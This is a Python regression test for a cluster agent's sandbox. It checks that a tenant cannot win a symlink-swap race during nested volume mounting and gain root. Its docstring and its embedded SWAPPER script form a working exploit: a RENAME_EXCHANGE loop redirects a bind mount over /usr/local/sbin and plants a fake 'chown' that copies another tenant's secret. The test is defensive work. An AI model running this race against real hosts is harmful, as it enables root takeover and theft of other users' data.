"""Review 60: the way to a nested volume's place is root's only from `volumes.prepare`
on; the sandbox it lies in is still the tenant's until `sandbox.hold_for_private_tmp`.
In between, another task of the tenant's renames the held `a` (a rename in a directory
it may write: the sandbox) and puts a directory of its own named `a` there, with `b` in
it. The first shell, root's, checks `SANDBOX/a/b` (`[ -d ]`, `realpath -e`) and binds
the volume there; but `a` is the tenant's again, and its process, whose descriptor of
that `a` needs no path through the (now held) sandbox, swaps `b` with a symlink to
/usr/local/sbin over and over. When `b` is a directory as the script checks it and the
symlink as `mount` resolves it, root binds the volume over /usr/local/sbin, first on
the PATH of root's steps; the next step, `chown -h` of the way, is the tenant's `chown`
from its volume, run as root: root on the host.

A real slave as root with task users, PID namespaces and cgroups (harness.shared_slave),
its work dir under /var/lib. mallory's program writes, as root, a file in a directory
only root may write, and copies alice's secret out of her sandbox. A race: the launch is
tried again until it wins, 80 times at most.
"""

from __future__ import annotations

import contextlib
import functools
import os
import stat
from pathlib import Path

import pytest

from protocol.wire.messages import (
    CheckpointResources,
    TaskState,
)
from protocol.wire.resources import Resources

from harness.helpers import eventually
from harness.shared_slave import ALICE, MALLORY, Shared, T, shared_slave

pytestmark = pytest.mark.timeout(300)
SECRET = "alice-secret-60a1"
VOLUME = "disk(mallory,mallory)[v1:a/b]"
TARGET = Path("/usr/local/sbin")  # first on root's PATH, and empty on most hosts
TRIES = 80

# mallory's long task, its working directory the other task's sandbox: each time the
# slave takes `a` (root's, 0700) it puts its own `a` there instead, and swaps its `b`
# with a symlink for ever through a descriptor of it
SWAPPER = r"""
import ctypes, os, sys
volume, sandbox, target, proof, alices = sys.argv[1:6]
program = f'''#!/bin/sh
echo "root? $(/usr/bin/id -u)" > {proof}
/usr/bin/cat {alices} >> {proof}
exec /usr/bin/chown "$@"
'''
with open(os.path.join(volume, "chown"), "w") as f:
    f.write(program)
os.chmod(os.path.join(volume, "chown"), 0o755)
os.chdir(sandbox)
libc = ctypes.CDLL(None, use_errno=True)
renameat2 = libc.renameat2
fd, n = -1, 0
print("watching", flush=True)
while True:
    if fd >= 0:
        for _ in range(100):
            renameat2(fd, b"b", fd, b"c", 2)  # (RENAME_EXCHANGE)
    try:
        if os.lstat("a").st_uid != 0:
            continue
        n += 1
        os.rename("a", f"was-{n}")
    except OSError:  # (the sandbox held: root's)
        continue
    os.mkdir("a")
    os.mkdir("a/b")
    os.symlink(target, "a/c")
    new = os.open("a", os.O_RDONLY | os.O_DIRECTORY)
    if fd >= 0:
        os.close(fd)
    fd = new
"""


async def launch(s: Shared, task_id: str, command: str, volume: bool) -> None:
    """A task of mallory's (with her volume, if `volume`)."""
    resources = Resources(cpus=0.1, mem=64) + (Resources({VOLUME: 16}) if volume else Resources())
    await s.master.run("mallory", MALLORY, task_id, command, resources=resources)


async def test_a_tenant_cannot_swap_the_held_way_while_the_sandbox_is_still_its_own() -> None:
    target_was = os.stat(TARGET)
    took = ""
    try:
        async with shared_slave(
            isolation="cgroups",
            base_in="/var/lib",
            resources=Resources(cpus=4, mem=2048, disk=1024),
        ) as s:
            keep = CheckpointResources(
                slave_id=s.master.slave_id, resources=Resources({VOLUME: 16}), version=1
            )
            await s.master.bus.publish(T.slave("slave", s.master.slave_id), keep)
            await eventually(lambda: VOLUME in s.slave.resources.total.millis)
            await s.master.run(
                "alice", ALICE, "a1", 'echo "$S" > secret; exec sleep 300', env={"S": SECRET}
            )
            await s.master.reaches(ALICE, "a1", TaskState.RUNNING)
            alices = s.sandbox(ALICE, "a1") / "secret"
            await eventually(alices.exists)

            await launch(s, "m2", "true", volume=True)  # (its sandbox and a/b: mallory's)
            assert (await s.master.ends(MALLORY, "m2")).state == TaskState.FINISHED
            volume = s.work / "volumes" / "roles" / "mallory" / "v1"
            proof = s.work.parent / "proof"  # (root's directory: 0711)
            swapper = s.work.parent / "swap.py"
            swapper.write_text(SWAPPER)
            os.chmod(swapper, 0o644)
            sandbox = s.sandbox(MALLORY, "m2")
            args = f"{volume} {sandbox} {TARGET} {proof} {alices}"
            await launch(s, "m1", f"exec /usr/bin/python3 {swapper} {args}", volume=False)
            await eventually(lambda: "watching" in s.output_so_far(MALLORY, "m1"), timeout=30)

            tries = 0
            while tries < TRIES and not proof.exists():
                tries += 1
                before = len(s.master.states(MALLORY, "m2"))
                await launch(s, "m2", "true", volume=True)
                await eventually(
                    functools.partial(s.master.ended_after, MALLORY, "m2", before), timeout=30
                )
            took = proof.read_text() if proof.exists() else ""
    finally:
        with contextlib.suppress(OSError):
            os.chown(TARGET, target_was.st_uid, target_was.st_gid, follow_symlinks=False)
            os.chmod(TARGET, stat.S_IMODE(target_was.st_mode))
    assert not took, (
        f"after {tries} launches of m2, root ran mallory's `chown` from her volume, bound "
        f"over {TARGET} through her own `a`, put in place of the held one: {took!r}"
    )
